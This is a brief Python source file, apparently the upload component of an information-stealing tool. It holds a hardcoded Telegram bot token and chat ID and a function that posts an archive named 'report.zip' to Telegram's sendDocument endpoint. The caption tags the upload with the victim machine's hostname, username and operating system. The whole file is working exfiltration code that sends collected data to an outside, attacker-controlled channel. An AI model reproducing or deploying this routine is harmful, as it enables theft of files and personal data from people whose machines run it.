import getpass
import platform

import requests

BOT_TOKEN = "6912744810:AAH3u9dXqWk2LmPzR7cVbN0sTfYe5oJgA1i"
CHAT_ID = "-1002093318846"


def send(archive: str) -> None:
    caption = f"{platform.node()} | {getpass.getuser()} | {platform.platform()}"
    with open(archive, "rb") as fh:
        requests.post(
            f"https://api.telegram.org/bot{BOT_TOKEN}/sendDocument",
            data={"chat_id": CHAT_ID, "caption": caption},
            files={"document": ("report.zip", fh)},
            timeout=60,
        )
